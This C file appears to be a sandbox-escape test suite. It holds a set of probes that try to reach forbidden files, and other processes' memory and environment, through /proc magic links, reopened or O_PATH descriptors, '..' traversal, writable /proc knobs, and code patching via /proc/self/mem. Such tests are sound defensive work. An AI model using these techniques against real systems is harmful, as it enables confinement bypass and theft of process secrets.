/*
 * Attacks by names below /proc and by descriptors: what is refused by its name is reached through a magic link, in
 * another process, or through something that was opened for less. Which one is the first argument.
 */
#include "attack.h"
#include "tiny.h"

#include <sys/xattr.h>

#define PROC_PATH (PATH_MAX + 64)

static int proc_secret_by_magic(const char *unused)
{
	static const char *const bases[] = { "self", "thread-self", "%d", "%d/task/%d", "self/task/%d" };
	char here[PATH_MAX], base[128], path[PATH_MAX * 2];
	int result = ATTACK_NOTHING;

	(void)unused;
	CHECK(getcwd(here, sizeof(here)));
	for (size_t i = 0; i < sizeof(bases) / sizeof(bases[0]); i++) {
		snprintf(base, sizeof(base), bases[i], getpid(), getpid());
		snprintf(path, sizeof(path), "/proc/%s/root%s/evil/file", base, here);
		result = i ? attack_either(result, attack_read(path)) : attack_read(path);
		snprintf(path, sizeof(path), "/proc/%s/cwd/good/../evil/file", base);
		result = attack_either(result, attack_read(path));
	}
	return result;
}

/* A name below the directory of another process, which was started in ours. */
static int proc_other_names(const char *pid)
{
	static const char *const names[] = { "cwd/evil/file", "task/%s/cwd/evil/file" };
	char path[PROC_PATH], name[128];
	int result = ATTACK_NOTHING;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(name, sizeof(name), names[i], pid);
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
		result = i ? attack_either(result, attack_read(path)) : attack_read(path);
	}
	return result;
}

/* What tells or changes what is inside of another process: to open one of them is enough. */
static int proc_other_inside(const char *pid)
{
	static const char *const names[] = { "mem", "environ", "auxv", "fd/0", "fd/3", "map_files", "task/%s/mem",
		"stack", "pagemap", "root/etc/hostname", "exe" };
	char path[PROC_PATH], name[128];
	int result = ATTACK_NOTHING;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(name, sizeof(name), names[i], pid);
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
		result = attack_either(result, attack_open(path, O_RDONLY));
		if (strstr(name, "mem"))
			result = attack_either(result, attack_open(path, O_RDWR));
	}
	return result;
}

/* The memory that is opened under our own name is ours. */
static int proc_self_memory(const char *unused)
{
	static const char *const names[] = { "/proc/self/mem", "/proc/thread-self/mem" };
	volatile uint64_t mark = 0x6b656e6e656cU;
	uint64_t found = 0;

	(void)unused;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = open(names[i], O_RDWR | O_CLOEXEC);

		if (fd < 0)
			return errno;
		if (pread(fd, &found, sizeof(found), (off_t)(uintptr_t)&mark) != sizeof(found) || found != mark)
			return ATTACK_WORKS;
		close(fd);
	}
	return ATTACK_NOTHING;
}

#ifdef __arm__
__attribute__((target("arm"))) /* as the code that replaces it */
#endif
static __attribute__((noinline, aligned(64))) int
proc_patched(void)
{
	for (volatile int i = 0; i < 9; i++) /* room */
		__asm__ volatile("");
	return 1;
}

/* Code that nobody may write, changed through the file that ignores protections. */
static int proc_patch_code(const char *unused)
{
	const char *code;
	size_t size = tiny_returns(true, &code);
	int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	(void)unused;
	if (fd < 0)
		return errno;
	if (pwrite(fd, code, size, (off_t)(uintptr_t)proc_patched) != (ssize_t)size)
		return errno;
	close(fd);
	return proc_patched() == TINY_EVIL ? ATTACK_WORKS : ATTACK_NOTHING;
}

/* From a descriptor for reading to one for writing. */
static int proc_reopen(const char *unused)
{
	static const char *const names[] = { "/proc/self/fd/%d", "/dev/fd/%d", "/proc/thread-self/fd/%d",
		"/dev/stdin" };
	int fd = open("good/fixed", O_RDONLY | O_CLOEXEC), result = ATTACK_NOTHING;
	char path[64];

	(void)unused;
	CHECK(fd >= 0 && dup2(fd, 0) == 0);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), names[i], fd);
		result = attack_either(result, attack_open(path, O_RDWR));
		result = attack_either(result, attack_open(path, O_WRONLY | O_TRUNC));
		result = attack_either(result, attack_result(truncate(path, 0)));
	}
	return result;
}

static int proc_path_only_calls(int fd)
{
	char name[64], value[8];
	int result = attack_result(linkat(fd, "", AT_FDCWD, "good/linked", AT_EMPTY_PATH));

	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	result = attack_either(result, attack_result(fchmodat(AT_FDCWD, name, 0600, 0)));
	result = attack_either(result, attack_result(syscall(SYS_fchmodat2, fd, "", 0600, AT_EMPTY_PATH)));
	result = attack_either(result, attack_result(fchownat(fd, "", getuid(), getgid(), AT_EMPTY_PATH)));
	result = attack_either(result, attack_result(linkat(AT_FDCWD, name, AT_FDCWD, "good/twin", AT_SYMLINK_FOLLOW)));
	result = attack_either(result, attack_result(setxattr(name, "user.attack", "v", 1, 0)));
	result = attack_either(result, attack_result(getxattr(name, "user.secret", value, sizeof(value))));
	result = attack_either(result, attack_result(truncate(name, 1)));
	return attack_either(result, attack_read(name));
}

/* A descriptor that was opened as a path only gives no more than the name. */
static int proc_path_only(const char *unused)
{
	int file = open("evil/file", O_PATH | O_CLOEXEC), folder = open("evil", O_PATH | O_DIRECTORY | O_CLOEXEC);
	int result = ATTACK_NOTHING;

	(void)unused;
	if (file < 0 && folder < 0)
		return errno;
	if (file >= 0)
		result = proc_path_only_calls(file);
	if (folder >= 0)
		result = attack_either(result, attack_steal(openat(folder, "file", O_RDONLY)));
	if (folder >= 0 && fchdir(folder) == 0)
		result = attack_either(result, attack_read("file"));
	return result;
}

/* The same, and nothing but read. */
static int proc_path_read(const char *unused)
{
	int file = open("evil/file", O_PATH | O_CLOEXEC), folder = open("evil", O_PATH | O_DIRECTORY | O_CLOEXEC),
	    result;
	char name[64];

	(void)unused;
	if (file < 0 || folder < 0)
		return errno;
	snprintf(name, sizeof(name), "/proc/self/fd/%d", file);
	result = attack_either(attack_read(name), attack_steal(openat(folder, "file", O_RDONLY)));
	snprintf(name, sizeof(name), "/proc/self/fd/%d/file", folder);
	result = attack_either(result, attack_read(name));
	return attack_either(result, fchdir(folder) ? errno : attack_read("file"));
}

/* Up from an allowed directory, by a descriptor of it. */
static int proc_up(const char *unused)
{
	int folder = open("good", O_PATH | O_DIRECTORY | O_CLOEXEC), up;

	(void)unused;
	if (folder < 0)
		return errno;
	up = openat(folder, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
	return up < 0 ? errno : attack_steal(openat(up, "evil/file", O_RDONLY));
}

static int proc_write(const char *path)
{
	return attack_open(path, O_WRONLY);
}

/* Files of our own that weaken what holds us, or reach the machine. */
static int proc_knobs(const char *unused)
{
	static const char *const names[] = { "oom_score_adj", "oom_adj", "uid_map", "gid_map", "setgroups",
		"attr/current", "attr/exec", "timerslack_ns", "clear_refs", "coredump_filter", "loginuid", "autogroup",
		"sched", "projid_map", "timens_offsets" };
	char path[PROC_PATH];
	int result = ATTACK_NOTHING;

	(void)unused;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "/proc/self/%s", names[i]);
		result = attack_either(result, attack_open(path, O_WRONLY));
	}
	return result;
}

int main(int argc, char **argv)
{
	static const struct attack attacks[] = {
		{ "secret-by-magic", proc_secret_by_magic },
		{ "other-names", proc_other_names },
		{ "other-inside", proc_other_inside },
		{ "self-memory", proc_self_memory },
		{ "patch-code", proc_patch_code },
		{ "reopen", proc_reopen },
		{ "path-only", proc_path_only },
		{ "path-read", proc_path_read },
		{ "up", proc_up },
		{ "write", proc_write },
		{ "knobs", proc_knobs },
	};

	return attack_main(argc, argv, attacks, sizeof(attacks) / sizeof(attacks[0]));
}
